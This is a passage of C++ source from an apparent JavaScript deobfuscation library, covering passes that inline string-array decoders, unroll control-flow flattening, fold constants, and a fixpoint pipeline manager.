    for (const Node* w : array_sym->writes) {
      if (w != arr.id) array_clean = false;
    }
    for (const Node* r : array_sym->references) {
      const bool allowed = r == arr.id || is_inside(r, dec.fn) ||
                           (rot != nullptr && is_inside(r, rot->stmt));
      if (!allowed) array_clean = false;
    }
    if (!array_clean || !getter_sym->writes.empty()) continue;

    // Every getter reference must be a call with one statically-known index
    // — and none may execute before the rotation has happened.
    std::vector<std::pair<Node*, long long>> sites;
    bool sites_clean = true;
    for (const Node* r : getter_sym->references) {
      Node* call = r->parent;
      if (call == nullptr || call->kind != NodeKind::kCallExpression ||
          call->children[0] != r || call->children.size() != 2) {
        sites_clean = false;
        break;
      }
      const std::optional<double> idx = numeric_value(call->children[1]);
      if (!idx || *idx != std::floor(*idx)) {
        sites_clean = false;
        break;
      }
      const auto raw = static_cast<long long>(*idx) -
                       static_cast<long long>(dec.offset);
      if (raw < 0 || raw >= len) {
        sites_clean = false;
        break;
      }
      if (rot != nullptr && r->id < rot->stmt->id) {
        // Referenced before the rotation runs: the static decode would read
        // the unrotated table. Leave the whole pattern alone.
        sites_clean = false;
        break;
      }
      sites.emplace_back(call, raw);
    }
    if (!sites_clean || sites.empty()) continue;

    const long long shift = rot != nullptr ? rot->count % len : 0;
    bool all_inlined = true;
    for (const auto& [call, raw] : sites) {
      const std::string& stored =
          arr.values[static_cast<std::size_t>((raw + shift) % len)];
      std::string value = stored;
      if (dec.base64) {
        // Strict decode or skip the site: the script's decoder runs atob,
        // which throws on malformed entries — inlining the lenient decode's
        // truncation would change behavior (see fold-constants).
        std::optional<std::string> decoded = base64_decode_strict(stored);
        if (!decoded) {
          all_inlined = false;
          continue;
        }
        value = std::move(*decoded);
      }
      js::replace_node(call, *arena.string_literal(value));
      ++changes;
    }
    // With every call inlined the rotation's only observable effect is gone;
    // dropping it frees the table for unused-declaration pruning. Any site
    // left behind (undecodable entry) still reads the rotated table.
    if (rot != nullptr && all_inlined) dead_rotations.insert(rot->stmt);
  }

  if (!dead_rotations.empty()) {
    std::vector<Node*> kept;
    for (Node* stmt : ast.root->children) {
      if (dead_rotations.find(stmt) == dead_rotations.end()) {
        kept.push_back(stmt);
      }
    }
    ast.root->children = kept;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// Literal / identifier array inlining.
// ---------------------------------------------------------------------------

int inline_literal_arrays(js::Ast& ast) {
  js::AstArena& arena = ast.arena;
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  // Name uniqueness map: an identifier element may only be inlined when no
  // second symbol anywhere shares its name (no shadowing to mis-bind).
  std::unordered_map<std::string_view, int> name_count;
  for (const auto& sym : scopes.symbols()) ++name_count[sym->name];

  int changes = 0;
  const std::vector<Node*> declarators =
      js::collect(ast.root, [](Node* n) {
        return n->kind == NodeKind::kVariableDeclarator &&
               n->children.size() >= 2 && n->children[1] != nullptr &&
               n->children[1]->kind == NodeKind::kArrayExpression &&
               !n->children[1]->children.empty();
      });

  for (Node* d : declarators) {
    Node* id = d->children[0];
    Node* array = d->children[1];

    bool eligible = true;
    for (const Node* e : array->children) {
      if (e == nullptr) {
        eligible = false;
        break;
      }
      if (e->kind == NodeKind::kLiteral && e->lit != LiteralType::kRegex) {
        continue;
      }
      if (e->kind == NodeKind::kIdentifier &&
          name_count[e->str.view()] <= 1) {
        continue;
      }
      eligible = false;
      break;
    }
    if (!eligible) continue;

    const Symbol* sym = scopes.symbol_for(id);
    if (sym == nullptr) continue;
    bool writes_clean = true;
    for (const Node* w : sym->writes) {
      if (w != id) writes_clean = false;
    }
    if (!writes_clean) continue;

    const auto len = static_cast<long long>(array->children.size());
    std::vector<std::pair<Node*, long long>> reads;
    bool reads_clean = true;
    for (const Node* r : sym->references) {
      if (r == id) continue;
      Node* m = r->parent;
      if (m == nullptr || m->kind != NodeKind::kMemberExpression ||
          !m->has_flag(Node::kComputed) || m->children[0] != r) {
        reads_clean = false;
        break;
      }
      const std::optional<double> k = numeric_value(m->children[1]);
      if (!k || *k != std::floor(*k) || *k < 0 || *k >= len) {
        reads_clean = false;
        break;
      }
      const Node* mp = m->parent;
      const bool written =
          mp != nullptr &&
          ((mp->kind == NodeKind::kAssignmentExpression &&
            mp->children[0] == m) ||
           mp->kind == NodeKind::kUpdateExpression ||
           (mp->kind == NodeKind::kForInStatement && mp->children[0] == m) ||
           (mp->kind == NodeKind::kUnaryExpression && mp->str == "delete"));
      if (written) {
        reads_clean = false;
        break;
      }
      reads.emplace_back(m, static_cast<long long>(*k));
    }
    if (!reads_clean || reads.empty()) continue;

    for (const auto& [member, k] : reads) {
      const Node* element = array->children[static_cast<std::size_t>(k)];
      js::replace_node(member, *js::clone(element, arena));
      ++changes;
    }
  }
  return changes;
}

// ---------------------------------------------------------------------------
// Apply un-packing.
// ---------------------------------------------------------------------------

int flatten_applies(js::Ast& ast) {
  int changes = 0;
  const std::vector<Node*> calls = js::collect(ast.root, [](Node* n) {
    return n->kind == NodeKind::kCallExpression && n->children.size() == 3 &&
           n->children[0]->kind == NodeKind::kMemberExpression &&
           !n->children[0]->has_flag(Node::kComputed) &&
           is_identifier(n->children[0]->children[1], "apply") &&
           n->children[2] != nullptr &&
           n->children[2]->kind == NodeKind::kArrayExpression;
  });
  for (Node* call : calls) {
    Node* target = call->children[0]->children[0];
    Node* this_arg = call->children[1];
    Node* args = call->children[2];
    bool holes = false;
    for (const Node* e : args->children) holes = holes || e == nullptr;
    if (holes) continue;

    bool ok = false;
    if (is_null_literal(this_arg) && target->kind == NodeKind::kIdentifier) {
      ok = true;  // f.apply(null, [...]) → f(...)
    } else if (this_arg->kind == NodeKind::kIdentifier &&
               target->kind == NodeKind::kMemberExpression &&
               target->children[0]->kind == NodeKind::kIdentifier &&
               target->children[0]->str == this_arg->str) {
      ok = true;  // o.m.apply(o, [...]) → o.m(...)
    }
    if (!ok) continue;

    std::vector<Node*> unpacked;
    unpacked.reserve(args->children.size() + 1);
    unpacked.push_back(target);
    for (Node* e : args->children) unpacked.push_back(e);
    call->children = unpacked;
    ++changes;
  }
  return changes;
}

class InlineIndirectionPass final : public Pass {
 public:
  std::string_view name() const noexcept override {
    return "inline-indirection";
  }

  int run(js::Ast& ast) override {
    int changes = 0;
    const auto step = [&ast, &changes](int c) {
      if (c > 0) js::finalize_tree(ast.root);
      changes += c;
    };
    step(unhoist_temps(ast));
    step(inline_decoders(ast));
    step(inline_literal_arrays(ast));
    step(flatten_applies(ast));
    return changes;
  }
};

}  // namespace

std::unique_ptr<Pass> make_inline_indirection_pass() {
  return std::make_unique<InlineIndirectionPass>();
}

}  // namespace jsrev::deob
