// unflatten: control-flow-flattening unrolling.
//
// Matches the dispatcher shape flatten_block emits —
//
//   var ORD = "t3|t1|t2".split("|"), CTR = 0;
//   while (true) {
//     switch (ORD[CTR++]) {
//       case "t1": <stmt>; continue;
//       ...
//     }
//     break;
//   }
//
// — and re-serializes the case bodies in order-string order, replacing both
// statements. The match is deliberately strict: the order string must name
// every case exactly once, ORD/CTR may appear nowhere else in the program
// (so unrolling cannot change any other binding), and no case body may
// contain a break/continue that would re-bind once the surrounding
// switch+loop disappear. By the time this pass sees the tree, fold-constants
// has already reassembled an order string that was itself chunk-encoded, and
// inline-indirection has restored string-array-extracted case tags.
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "deob/deob.h"
#include "deob/internal.h"
#include "js/visitor.h"
#include "util/string_util.h"

namespace jsrev::deob {
namespace {

using detail::has_free_break_or_continue;
using detail::is_identifier;
using detail::is_number_literal;
using detail::is_string_literal;
using js::Node;
using js::NodeKind;

struct Dispatcher {
  std::string_view ord_name;
  std::string_view ctr_name;
  std::vector<std::string> order;            // tags in execution order
  const Node* switch_node = nullptr;
};

/// Matches `var ORD = "..".split("|"), CTR = 0;` and fills names + order.
bool match_decl(const Node* stmt, Dispatcher& out) {
  if (stmt->kind != NodeKind::kVariableDeclaration || stmt->str != "var" ||
      stmt->children.size() != 2) {
    return false;
  }
  const Node* d_ord = stmt->children[0];
  const Node* d_ctr = stmt->children[1];
  if (d_ord->children.size() < 2 || d_ord->children[1] == nullptr ||
      d_ctr->children.size() < 2 || !is_number_literal(d_ctr->children[1]) ||
      d_ctr->children[1]->num != 0) {
    return false;
  }
  const Node* call = d_ord->children[1];
  if (call->kind != NodeKind::kCallExpression || call->children.size() != 2 ||
      !is_string_literal(call->children[1]) ||
      call->children[1]->str.size() != 1) {
    return false;
  }
  const Node* callee = call->children[0];
  if (callee->kind != NodeKind::kMemberExpression ||
      callee->has_flag(Node::kComputed) ||
      !is_string_literal(callee->children[0]) ||
      !is_identifier(callee->children[1], "split")) {
    return false;
  }
  out.ord_name = d_ord->children[0]->str.view();
  out.ctr_name = d_ctr->children[0]->str.view();
  out.order = split(std::string(callee->children[0]->str),
                    call->children[1]->str.view()[0]);
  return !out.order.empty();
}

/// Matches `while (true) { switch (ORD[CTR++]) {...} break; }`.
bool match_loop(const Node* stmt, Dispatcher& out) {
  if (stmt->kind != NodeKind::kWhileStatement) return false;
  const Node* test = stmt->children[0];
  const Node* body = stmt->children[1];
  if (test->kind != NodeKind::kLiteral ||
      test->lit != js::LiteralType::kBoolean || !test->bval) {
    return false;
  }
  if (body->kind != NodeKind::kBlockStatement || body->children.size() != 2) {
    return false;
  }
  const Node* sw = body->children[0];
  const Node* brk = body->children[1];
  if (sw->kind != NodeKind::kSwitchStatement ||
      brk->kind != NodeKind::kBreakStatement || !brk->str.empty()) {
    return false;
  }
  const Node* disc = sw->children[0];
  if (disc->kind != NodeKind::kMemberExpression ||
      !disc->has_flag(Node::kComputed) ||
      !is_identifier(disc->children[0], out.ord_name)) {
    return false;
  }
  const Node* update = disc->children[1];
  if (update->kind != NodeKind::kUpdateExpression || update->str != "++" ||
      update->has_flag(Node::kPrefix) ||
      !is_identifier(update->children[0], out.ctr_name)) {
    return false;
  }
  out.switch_node = sw;
  return true;
}

/// Validates the cases against the order string and collects each tag's body
/// (the consequent minus its trailing `continue`). Returns false when the
/// dispatcher cannot be unrolled safely.
bool collect_bodies(
    const Dispatcher& d,
    std::unordered_map<std::string_view, std::vector<Node*>>& bodies) {
  std::unordered_set<std::string_view> order_tags;
  for (const std::string& t : d.order) {
    if (!order_tags.insert(t).second) return false;  // tag executed twice
  }
  const Node* sw = d.switch_node;
  for (std::size_t i = 1; i < sw->children.size(); ++i) {
    Node* c = sw->children[i];
    if (!is_string_literal(c->children[0])) return false;  // incl. default
    const std::string_view tag = c->children[0]->str.view();
    if (order_tags.find(tag) == order_tags.end()) return false;
    if (bodies.find(tag) != bodies.end()) return false;  // duplicate case
    if (c->children.size() < 2) return false;
    Node* last = c->children[c->children.size() - 1];
    if (last->kind != NodeKind::kContinueStatement || !last->str.empty()) {
      return false;  // a case that falls through or exits oddly
    }
    std::vector<Node*> body;
    for (std::size_t j = 1; j + 1 < c->children.size(); ++j) {
      Node* s = c->children[j];
      // Once hoisted out of the switch+loop, a break/continue that bound to
      // the dispatcher (or escaped past it) would re-bind. Keep flattened.
      if (has_free_break_or_continue(s)) return false;
      body.push_back(s);
    }
    bodies.emplace(tag, std::move(body));
  }
  return bodies.size() == order_tags.size();  // every tag has a case
}

class UnflattenPass final : public Pass {
 public:
  std::string_view name() const noexcept override { return "unflatten"; }

  int run(js::Ast& ast) override {
    int changes = 0;
    for (js::ChildList* list : detail::function_body_lists(ast.root)) {
      std::vector<Node*> v(list->begin(), list->end());
      bool list_changed = false;
      for (std::size_t i = 0; i + 1 < v.size();) {
        Dispatcher d;
        if (!match_decl(v[i], d) || !match_loop(v[i + 1], d) ||
            !names_are_private(ast.root, d)) {
          ++i;
          continue;
        }
        std::unordered_map<std::string_view, std::vector<Node*>> bodies;
        if (!collect_bodies(d, bodies)) {
          ++i;
          continue;
        }
        std::vector<Node*> unrolled;
        for (const std::string& tag : d.order) {
          const std::vector<Node*>& body = bodies[tag];
          unrolled.insert(unrolled.end(), body.begin(), body.end());
        }
        v.erase(v.begin() + static_cast<std::ptrdiff_t>(i),
                v.begin() + static_cast<std::ptrdiff_t>(i) + 2);
        v.insert(v.begin() + static_cast<std::ptrdiff_t>(i),
                 unrolled.begin(), unrolled.end());
        list_changed = true;
        ++changes;
        // Do not advance: a nested dispatcher hoisted into position i (or a
        // stacked one right behind it) is matched on the next trip.
      }
      if (list_changed) *list = v;
    }
    if (changes > 0) js::finalize_tree(ast.root);
    return changes;
  }

 private:
  /// ORD and CTR must each occur exactly twice as identifiers in the whole
  /// tree (declarator + dispatcher use) — any third occurrence means the
  /// names leak outside the dispatcher and unrolling could change bindings.
  static bool names_are_private(Node* root, const Dispatcher& d) {
    int ord = 0;
    int ctr = 0;
    js::walk(root, [&d, &ord, &ctr](const Node* n) {
      if (n->kind == NodeKind::kIdentifier) {
        if (n->str == d.ord_name) ++ord;
        if (n->str == d.ctr_name) ++ctr;
      }
      return true;
    });
    return ord == 2 && ctr == 2;
  }
};

}  // namespace

std::unique_ptr<Pass> make_unflatten_pass() {
  return std::make_unique<UnflattenPass>();
}

}  // namespace jsrev::deob
