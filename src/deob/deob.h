// Static deobfuscation: a pipeline of independent AST-to-AST normalization
// passes run to a fixpoint (DESIGN.md §13).
//
// Each pass statically reverses (or canonicalizes away) something the
// obfuscator models in src/obfuscators emit:
//
//   fold-constants       numeric/string constant folding, String.fromCharCode
//                        and unescape()/atob() literal decoding, literal
//                        branch selection at expression level, and
//                        computed-member → dotted-member canonicalization.
//   inline-indirection   string-array + rotating-decoder detection and
//                        inlining, literal/function-table array inlining
//                        (Jfogs' fog data and dispatch tables),
//                        f.apply(null,[...]) call un-packing, and single-use
//                        temporary un-hoisting (inverts hoist_call_args).
//   unflatten            control-flow-flattening unrolling: the
//                        `while(true){switch(order[i++]){...}}` dispatcher is
//                        matched and its cases re-serialized in execution
//                        order.
//   prune-dead           dead-code and opaque-predicate elimination: constant
//                        branch tests (literals plus dataflow-const
//                        single-write bindings), CFG-unreachable statements,
//                        and unused side-effect-free declarations.
//   canonicalize         normal-form cleanup keyed on scope analysis: bare
//                        block splicing, function-declaration hoisting, var
//                        declaration re-forming (undoing the hoist+assign
//                        decomposition flattening performs), and
//                        deterministic identifier renaming (v0, v1, ...).
//
// The pass-manager (Deobfuscator) iterates the pipeline until an iteration
// reports zero changes or an iteration cap trips; per-pass change counts land
// in the obs registry as deob.pass_changes{pass=...}.
//
// Design target: deob is a *normalizer*, not an exact inverter. Wherever an
// obfuscation is ambiguous to invert, the same canonical form is applied to
// both plain and obfuscated inputs, so `deob(obf(s))` converges to the same
// tree as `deob(s)` — the property the fuzz oracle and tests/deob_property
// assert. Semantics are preserved in the same static sense as the
// obfuscators themselves (we never execute JS).
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "js/ast.h"
#include "js/parse_limits.h"
#include "js/printer.h"

namespace jsrev::deob {

struct DeobOptions {
  // Upper bound on pipeline iterations. Every structural pass is strictly
  // size-reducing and the canonical forms are idempotent, so real inputs
  // reach a fixpoint in a handful of iterations (stacked obfuscation: one or
  // two per layer); the cap is the non-termination guard the pass-manager
  // enforces regardless.
  int max_iterations = 12;
};

/// One AST-to-AST normalization pass. `run` must keep the tree finalized
/// (ids/parents assigned) and return the number of changes applied; zero
/// means the pass is at a fixpoint for this tree.
class Pass {
 public:
  virtual ~Pass() = default;
  virtual std::string_view name() const noexcept = 0;
  virtual int run(js::Ast& ast) = 0;
};

std::unique_ptr<Pass> make_fold_constants_pass();
std::unique_ptr<Pass> make_inline_indirection_pass();
std::unique_ptr<Pass> make_unflatten_pass();
std::unique_ptr<Pass> make_prune_dead_pass();
std::unique_ptr<Pass> make_canonicalize_pass();

/// The default pipeline, in the order the passes compose best (decode →
/// de-indirect → unroll → prune → canonicalize).
std::vector<std::unique_ptr<Pass>> default_passes();

struct PassTotals {
  std::string pass;
  int changes = 0;
};

struct PipelineResult {
  int iterations = 0;
  bool reached_fixpoint = false;
  int total_changes = 0;
  std::vector<PassTotals> per_pass;  // pipeline order, summed over iterations
};

/// The fixpoint pass-manager. Thread-compatible: one Deobfuscator may be
/// shared across threads (run() only touches the Ast it is given).
class Deobfuscator {
 public:
  explicit Deobfuscator(DeobOptions opts = {});
  Deobfuscator(std::vector<std::unique_ptr<Pass>> passes,
               DeobOptions opts = {});

  PipelineResult run(js::Ast& ast) const;

  const std::vector<std::unique_ptr<Pass>>& passes() const noexcept {
    return passes_;
  }

 private:
  std::vector<std::unique_ptr<Pass>> passes_;
  DeobOptions opts_;
};

/// Normalizes a parsed AST in place with the default pipeline and compacts
/// the arena afterwards (ast.root is updated; outside Node* are invalidated,
/// as with any compaction).
PipelineResult deobfuscate_ast(js::Ast& ast, const DeobOptions& opts = {});

struct SourceResult {
  bool parse_ok = false;
  std::string error;   // frontend message when !parse_ok
  std::string source;  // normalized source; the input verbatim on failure
  PipelineResult pipeline;
  int nodes_before = 0;
  int nodes_after = 0;
  std::uint64_t fingerprint_before = 0;
  std::uint64_t fingerprint_after = 0;
};

/// Parse → normalize → print. Unparseable input is returned unchanged with
/// parse_ok=false (the caller keeps the unparseable ⇒ malicious convention).
SourceResult deobfuscate_source(const std::string& source,
                                const js::ParseLimits& limits = {},
                                const DeobOptions& opts = {},
                                js::PrintStyle style = js::PrintStyle::kPretty);

}  // namespace jsrev::deob
