// Shared helpers for the deobfuscation passes (implementation detail of
// src/deob; not installed into the public surface).
#pragma once

#include <cmath>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "js/ast.h"

namespace jsrev::deob::detail {

using js::LiteralType;
using js::Node;
using js::NodeKind;

inline bool is_number_literal(const Node* n) {
  return n != nullptr && n->kind == NodeKind::kLiteral &&
         n->lit == LiteralType::kNumber;
}

inline bool is_string_literal(const Node* n) {
  return n != nullptr && n->kind == NodeKind::kLiteral &&
         n->lit == LiteralType::kString;
}

inline bool is_bool_literal(const Node* n) {
  return n != nullptr && n->kind == NodeKind::kLiteral &&
         n->lit == LiteralType::kBoolean;
}

inline bool is_null_literal(const Node* n) {
  return n != nullptr && n->kind == NodeKind::kLiteral &&
         n->lit == LiteralType::kNull;
}

inline bool is_identifier(const Node* n, std::string_view name) {
  return n != nullptr && n->kind == NodeKind::kIdentifier && n->str == name;
}

/// Numeric value of a literal, or of the parse shape negative numbers take
/// (`-3` parses as Unary("-", Literal(3))). Folding must understand both or
/// its own outputs (which wrap negatives the same way, preserving the
/// printer round-trip) would block further folding.
inline std::optional<double> numeric_value(const Node* n) {
  if (n == nullptr) return std::nullopt;
  if (is_number_literal(n)) return n->num;
  if (n->kind == NodeKind::kUnaryExpression && n->str == "-" &&
      n->children.size() == 1 && is_number_literal(n->children[0])) {
    return -n->children[0]->num;
  }
  return std::nullopt;
}

/// Static truthiness of a literal (including the unary-minus number shape);
/// nullopt when not statically known.
inline std::optional<bool> literal_truthiness(const Node* n) {
  if (n == nullptr) return std::nullopt;
  if (const std::optional<double> v = numeric_value(n)) {
    return !(*v == 0.0 || std::isnan(*v));
  }
  if (n->kind != NodeKind::kLiteral) return std::nullopt;
  switch (n->lit) {
    case LiteralType::kString: return !n->str.empty();
    case LiteralType::kBoolean: return n->bval;
    case LiteralType::kNull: return false;
    default: return std::nullopt;
  }
}

/// True when `name` can be printed after `.` (plain identifier, not a
/// reserved word) — the guard for computed→dotted member canonicalization.
bool is_safe_identifier_name(std::string_view name);

/// ES string coercion of a number, matching the printer's literal rendering
/// so folded concatenations round-trip.
std::string number_to_string(double v);

/// True if `stmt` contains a break/continue that would bind OUTSIDE of it
/// (i.e. not enclosed by a loop/switch/function within `stmt`, and not a
/// label defined within `stmt`). Such statements cannot be moved out of the
/// flattening dispatcher.
bool has_free_break_or_continue(const Node* stmt);

/// Side-effect-free expressions: safe to delete when their value is unused.
/// Conservative — member accesses (getters), calls, `new`, assignments,
/// updates and anything unknown are impure. Function expressions are pure
/// (creating a closure has no effect).
bool is_pure_expression(const Node* e);

/// Statement lists a pass rewrites as a unit: the Program body plus every
/// function body. Collected up front so rewrites never mutate a list while
/// it is being discovered.
std::vector<js::ChildList*> function_body_lists(Node* root);

/// As above plus every BlockStatement (if/loop/try bodies and bare blocks).
std::vector<js::ChildList*> all_statement_lists(Node* root);

/// True when `n` is (transitively) inside `ancestor` (parent links must be
/// finalized). `n == ancestor` counts as inside.
inline bool is_inside(const Node* n, const Node* ancestor) {
  for (const Node* p = n; p != nullptr; p = p->parent) {
    if (p == ancestor) return true;
  }
  return false;
}

}  // namespace jsrev::deob::detail
