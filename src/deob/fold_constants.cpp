// fold-constants: expression-level constant folding and literal decoding.
//
// Reverses encode_strings (chunked concatenation + String.fromCharCode),
// encode_numbers ((v±δ)∓δ), escape_encode_strings (unescape("%xx..")), and
// the base64 leg of the string-array model (atob("...") on a literal), and
// evaluates literal comparisons/logic so opaque predicates collapse to
// booleans the prune pass can act on. Also canonicalizes obj["prop"] to
// obj.prop when "prop" is a safe identifier.
//
// Folding follows the printer's number round-trip rules: NaN results are
// never folded (a NaN literal would print as the identifier `NaN`), negative
// results are wrapped as Unary("-", literal) — the shape negative numbers
// parse to — and a result of -0 is left unfolded (no literal spells it).
#include <cmath>
#include <string>
#include <vector>

#include "deob/deob.h"
#include "deob/internal.h"
#include "util/base64.h"

namespace jsrev::deob {
namespace {

using detail::is_bool_literal;
using detail::is_identifier;
using detail::is_null_literal;
using detail::is_number_literal;
using detail::is_string_literal;
using detail::literal_truthiness;
using detail::numeric_value;
using js::LiteralType;
using js::Node;
using js::NodeKind;

/// String coercion of a literal operand for `+` folding (nullopt when the
/// operand is not a foldable primary).
std::optional<std::string> string_value(const Node* n) {
  if (is_string_literal(n)) return std::string(n->str);
  if (const std::optional<double> v = numeric_value(n)) {
    return detail::number_to_string(*v);
  }
  if (is_bool_literal(n)) return std::string(n->bval ? "true" : "false");
  if (is_null_literal(n)) return std::string("null");
  return std::nullopt;
}

bool decode_unescape(std::string_view s, std::string& out) {
  const auto hex = [](char c) -> int {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
  };
  out.clear();
  out.reserve(s.size() / 3 + 1);
  for (std::size_t i = 0; i < s.size();) {
    if (s[i] != '%') {
      out += s[i++];
      continue;
    }
    // Only fold fully-decodable %XX sequences; %uXXXX (UTF-16) and stray
    // '%' are left to the runtime.
    if (i + 2 >= s.size()) return false;
    const int hi = hex(s[i + 1]);
    const int lo = hex(s[i + 2]);
    if (hi < 0 || lo < 0) return false;
    out += static_cast<char>(hi * 16 + lo);
    i += 3;
  }
  return true;
}

class FoldConstantsPass final : public Pass {
 public:
  std::string_view name() const noexcept override { return "fold-constants"; }

  int run(js::Ast& ast) override {
    changes_ = 0;
    arena_ = &ast.arena;
    fold(ast.root);
    if (changes_ > 0) js::finalize_tree(ast.root);
    return changes_;
  }

 private:
  /// Replaces `target` in place (the established transform idiom: no parent
  /// slot hunting; compaction drops the donor husk).
  void replace(Node* target, Node* repl) {
    js::replace_node(target, *repl);
    ++changes_;
  }

  void replace_with_number(Node* target, double v) {
    if (v < 0) {
      Node* neg = arena_->make(NodeKind::kUnaryExpression);
      neg->str = "-";
      neg->children.push_back(arena_->number_literal(-v));
      replace(target, neg);
    } else {
      replace(target, arena_->number_literal(v));
    }
  }

  // NOLINTNEXTLINE(misc-no-recursion)
  void fold(Node* n) {
    if (n == nullptr) return;
    if (n->kind == NodeKind::kProperty && !n->has_flag(Node::kComputed)) {
      fold(n->children[1]);  // the key must stay a literal/identifier
      return;
    }
    for (Node* c : n->children) fold(c);

    switch (n->kind) {
      case NodeKind::kBinaryExpression: fold_binary(n); return;
      case NodeKind::kUnaryExpression: fold_unary(n); return;
      case NodeKind::kLogicalExpression: fold_logical(n); return;
      case NodeKind::kConditionalExpression: fold_conditional(n); return;
      case NodeKind::kCallExpression: fold_call(n); return;
      case NodeKind::kMemberExpression: fold_member(n); return;
      default: return;
    }
  }

  void fold_binary(Node* n) {
    Node* l = n->children[0];
    Node* r = n->children[1];
    const std::string_view op = n->str.view();

    if (op == "+" && (is_string_literal(l) || is_string_literal(r))) {
      const std::optional<std::string> a = string_value(l);
      const std::optional<std::string> b = string_value(r);
      if (a && b) replace(n, arena_->string_literal(*a + *b));
      return;
    }

    const std::optional<double> a = numeric_value(l);
    const std::optional<double> b = numeric_value(r);
    if (!a || !b) return;

    if (op == "+" || op == "-" || op == "*" || op == "/" || op == "%") {
      double v = 0;
      if (op == "+") v = *a + *b;
      else if (op == "-") v = *a - *b;
      else if (op == "*") v = *a * *b;
      else if (op == "/") v = *a / *b;
      else v = std::fmod(*a, *b);
      if (std::isnan(v)) return;                   // NaN has no literal form
      if (v == 0.0 && std::signbit(v)) return;     // nor does -0
      replace_with_number(n, v);
      return;
    }

    if (op == "<" || op == "<=" || op == ">" || op == ">=" || op == "==" ||
        op == "!=" || op == "===" || op == "!==") {
      bool v = false;
      if (op == "<") v = *a < *b;
      else if (op == "<=") v = *a <= *b;
      else if (op == ">") v = *a > *b;
      else if (op == ">=") v = *a >= *b;
      else if (op == "==" || op == "===") v = *a == *b;
      else v = *a != *b;
      if (std::isnan(*a) || std::isnan(*b)) return;  // unreachable: no NaN
      replace(n, arena_->bool_literal(v));
      return;
    }
  }

  void fold_unary(Node* n) {
    if (n->str != "!") return;
    const std::optional<bool> t = literal_truthiness(n->children[0]);
    if (t) replace(n, arena_->bool_literal(!*t));
  }

  void fold_logical(Node* n) {
    const std::optional<bool> t = literal_truthiness(n->children[0]);
    if (!t) return;
    // `lit && X` evaluates to lit when falsy, else X (dually for ||); the
    // left side is a literal so dropping it loses no effects.
    Node* kept = nullptr;
    if (n->str == "&&") kept = *t ? n->children[1] : n->children[0];
    else if (n->str == "||") kept = *t ? n->children[0] : n->children[1];
    if (kept != nullptr) replace(n, kept);
  }

  void fold_conditional(Node* n) {
    const std::optional<bool> t = literal_truthiness(n->children[0]);
    if (t) replace(n, n->children[*t ? 1 : 2]);
  }

  void fold_call(Node* n) {
    Node* callee = n->children[0];
    // String.fromCharCode(c, ...) with ASCII code points. Byte-exact only
    // for 0..127 (our strings are byte strings; >=128 would need UTF-16
    // semantics), which covers everything encode_strings emits.
    if (callee->kind == NodeKind::kMemberExpression &&
        !callee->has_flag(Node::kComputed) &&
        is_identifier(callee->children[0], "String") &&
        is_identifier(callee->children[1], "fromCharCode")) {
      std::string out;
      for (std::size_t i = 1; i < n->children.size(); ++i) {
        const std::optional<double> v = numeric_value(n->children[i]);
        if (!v || *v != std::floor(*v) || *v < 0 || *v > 127) return;
        out += static_cast<char>(static_cast<int>(*v));
      }
      replace(n, arena_->string_literal(out));
      return;
    }
    if (n->children.size() != 2 || !is_string_literal(n->children[1])) return;
    if (is_identifier(callee, "unescape")) {
      std::string decoded;
      if (decode_unescape(n->children[1]->str.view(), decoded)) {
        replace(n, arena_->string_literal(decoded));
      }
      return;
    }
    if (is_identifier(callee, "atob")) {
      // Strict decode or no fold: a real engine throws InvalidCharacterError
      // on malformed input, so folding through the lenient decoder would
      // rewrite a reachable throw into a silently truncated string.
      const std::string_view enc = n->children[1]->str.view();
      if (const std::optional<std::string> dec = base64_decode_strict(enc)) {
        replace(n, arena_->string_literal(*dec));
      }
      return;
    }
  }

  void fold_member(Node* n) {
    if (!n->has_flag(Node::kComputed)) return;
    Node* obj = n->children[0];
    Node* prop = n->children[1];
    // [a, b][1] -> b: an integer-indexed array literal whose discarded
    // elements are pure (the shape a single-use fog/dispatch table takes
    // after it has been inlined into its only read).
    if (obj->kind == NodeKind::kArrayExpression && is_number_literal(prop)) {
      const double d = prop->num;
      const auto idx = static_cast<std::size_t>(d);
      if (d >= 0 && static_cast<double>(idx) == d &&
          idx < obj->children.size()) {
        Node* elem = obj->children[idx];
        bool pure = elem != nullptr;
        for (std::size_t i = 0; pure && i < obj->children.size(); ++i) {
          if (i != idx) pure = detail::is_pure_expression(obj->children[i]);
        }
        if (pure) {
          replace(n, elem);
          return;
        }
      }
    }
    if (!is_string_literal(prop) ||
        !detail::is_safe_identifier_name(prop->str.view())) {
      return;
    }
    n->flags &= static_cast<std::uint8_t>(~Node::kComputed);
    n->children[1] = arena_->identifier(prop->str.view());
    ++changes_;
  }

  js::AstArena* arena_ = nullptr;
  int changes_ = 0;
};

}  // namespace

std::unique_ptr<Pass> make_fold_constants_pass() {
  return std::make_unique<FoldConstantsPass>();
}

}  // namespace jsrev::deob
