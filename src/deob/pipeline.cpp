// The fixpoint pass-manager and the whole-source convenience wrapper.
#include <utility>

#include "deob/deob.h"
#include "js/ast_compare.h"
#include "js/parser.h"
#include "js/visitor.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace jsrev::deob {

std::vector<std::unique_ptr<Pass>> default_passes() {
  std::vector<std::unique_ptr<Pass>> passes;
  passes.push_back(make_fold_constants_pass());
  passes.push_back(make_inline_indirection_pass());
  passes.push_back(make_unflatten_pass());
  passes.push_back(make_prune_dead_pass());
  passes.push_back(make_canonicalize_pass());
  return passes;
}

Deobfuscator::Deobfuscator(DeobOptions opts)
    : Deobfuscator(default_passes(), opts) {}

Deobfuscator::Deobfuscator(std::vector<std::unique_ptr<Pass>> passes,
                           DeobOptions opts)
    : passes_(std::move(passes)), opts_(opts) {}

PipelineResult Deobfuscator::run(js::Ast& ast) const {
  const obs::Span span("deob.pipeline", "deob");
  auto& reg = obs::metrics();
  static obs::Counter* const runs = obs::metrics().counter("deob.runs");
  static obs::Counter* const iterations =
      obs::metrics().counter("deob.iterations");
  static obs::Counter* const fixpoints =
      obs::metrics().counter("deob.fixpoint_reached");
  static obs::Counter* const cap_hits =
      obs::metrics().counter("deob.iteration_cap_hits");

  PipelineResult result;
  result.per_pass.reserve(passes_.size());
